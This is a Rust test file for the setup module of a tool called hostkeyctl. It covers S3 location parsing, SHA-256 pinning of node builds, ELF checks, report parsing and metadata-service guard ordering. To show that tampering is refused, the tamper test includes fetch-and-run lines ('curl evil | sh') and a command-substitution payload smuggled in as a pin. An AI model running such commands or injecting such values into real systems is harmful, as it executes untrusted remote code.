//! The setup document and its report ([`super::setup`]), case by case.

use super::setup::{Arch, NodeBuilds, S3Location, SetupReport};

fn builds() -> NodeBuilds {
    NodeBuilds {
        location: "s3://my-bucket/hostkeyctl/v1".parse().unwrap(),
        pins: [(Arch::X86_64, "a".repeat(64)), (Arch::Aarch64, "b".repeat(64))].into(),
    }
}

#[test]
fn locations_follow_s3s_rules() {
    let l: S3Location = "s3://my-bucket/hostkeyctl/".parse().unwrap();
    assert_eq!(l.key(Arch::Aarch64), "hostkeyctl/hostkeyctl-aarch64");
    assert_eq!(l.to_string(), "s3://my-bucket/hostkeyctl");
    assert_eq!(
        "s3://b12".parse::<S3Location>().unwrap().url(Arch::X86_64),
        "https://s3.amazonaws.com/b12/hostkeyctl-x86_64"
    );
    for bad in [
        "my-bucket/x",
        "s3://My-Bucket/x",
        "s3://ab/x",
        "s3://-ab/x",
        "s3://abc/a b",
        "s3://abc/a\"b",
        "s3://abc/a//b",
        "s3://abc/a/../b",
        "s3://abc/./b",
    ] {
        assert!(bad.parse::<S3Location>().is_err(), "{bad} passed");
    }
}

#[test]
fn the_content_reads_back_to_its_pins_and_nothing_else_does() {
    let b = builds();
    let text = b.content();
    assert_eq!(NodeBuilds::from_content(&text), Some(b.clone()));
    // One architecture only: one download step.
    let one = NodeBuilds {
        pins: [(Arch::X86_64, "c".repeat(64))].into(),
        ..b.clone()
    };
    assert_eq!(one.content().matches("aws:downloadContent").count(), 1);
    assert_eq!(NodeBuilds::from_content(&one.content()), Some(one));
    // Any edit is another document.
    let tampered = text.replace("set -eu", "set -eu\ncurl evil | sh");
    assert_eq!(NodeBuilds::from_content(&tampered), None);
    // A pin that is not a SHA-256 would stand in the shell line: it
    // round-trips through content(), so the pin itself is refused.
    for pin in [
        "$(curl -s https://evil/x|sh)",
        "é".repeat(32).as_str(),
        &"A".repeat(64),
        &"a".repeat(63),
    ] {
        let evil = NodeBuilds {
            pins: [(Arch::X86_64, pin.to_owned())].into(),
            ..b.clone()
        };
        assert_eq!(NodeBuilds::from_content(&evil.content()), None, "{pin}");
    }
    // Other pins make another setup document, whose pins deliver
    // shows: who may update documents decides what nodes install
    // (docs/security.md).
    let elsewhere = text.replace("my-bucket", "their-bucket");
    assert_eq!(
        NodeBuilds::from_content(&elsewhere).map(|b| b.location.bucket),
        Some("their-bucket".to_owned())
    );
    assert_eq!(NodeBuilds::from_content("{}"), None);
}

#[test]
fn a_directory_without_builds_or_with_something_else_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let at: S3Location = "s3://my-bucket".parse().unwrap();
    let err = NodeBuilds::from_dir(dir.path(), at.clone()).unwrap_err();
    assert!(err.to_string().contains("neither hostkeyctl-x86_64"), "{err}");
    std::fs::write(dir.path().join("hostkeyctl-aarch64"), b"#!/bin/sh\necho hi\n").unwrap();
    let err = NodeBuilds::from_dir(dir.path(), at.clone()).unwrap_err();
    assert!(err.to_string().contains("not a Linux aarch64 executable"), "{err}");
    // This test's own executable is an x86_64 or aarch64 ELF.
    let me = std::fs::read(std::env::current_exe().unwrap()).unwrap();
    let arch = if cfg!(target_arch = "aarch64") {
        Arch::Aarch64
    } else {
        Arch::X86_64
    };
    std::fs::remove_file(dir.path().join("hostkeyctl-aarch64")).unwrap();
    std::fs::write(dir.path().join(arch.file_name()), &me).unwrap();
    let b = NodeBuilds::from_dir(dir.path(), at).unwrap();
    assert_eq!(b.pins.keys().copied().collect::<Vec<_>>(), [arch]);
    use sha2::Digest;
    assert_eq!(b.pins[&arch], hex::encode(sha2::Sha256::digest(&me)));
}

#[test]
fn a_nodes_report_is_its_last_json_line_of_the_schema() {
    let out = "Content downloaded\n{\"schema\":\"hostkeyctl-setup/v1\",\"result\":\"installed\",\"path\":\"/usr/local/bin/hostkeyctl\",\"arch\":\"x86_64\",\"sha256\":\"ab\",\"version\":\"hostkeyctl 0.1.0\"}\n";
    let r = SetupReport::from_output(out).unwrap();
    assert_eq!(
        (r.result.as_str(), r.version.as_str()),
        ("installed", "hostkeyctl 0.1.0")
    );
    assert_eq!(SetupReport::from_output("{\"schema\":\"other/v1\"}"), None);
    assert_eq!(r.imds, None);
    let guarded = out.replace("0.1.0\"}", "0.1.0\",\"imds\":\"root_only\"}");
    let r = SetupReport::from_output(&guarded).unwrap();
    assert_eq!(r.imds, Some(crate::imds_guard::Access::RootOnly));
}

#[test]
fn the_metadata_service_is_guarded_before_the_keys_unless_open_is_asked() {
    let doc: serde_json::Value = serde_json::from_str(&builds().content()).unwrap();
    let p = &doc["parameters"]["MetadataService"];
    assert_eq!(p["default"], "root-only");
    assert_eq!(p["allowedValues"], serde_json::json!(["root-only", "open"]));
    let lines: Vec<String> = doc["mainSteps"].as_array().unwrap().last().unwrap()["inputs"]["runCommand"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap().to_owned())
        .collect();
    let at = |needle: &str| lines.iter().position(|l| l.contains(needle)).unwrap();
    assert!(at("imds-guard --at-boot >&2 ||") < at("--secret-id=\"$secret\""));
    assert!(at("imds-guard --open --at-boot") < at("printf '{"));
}
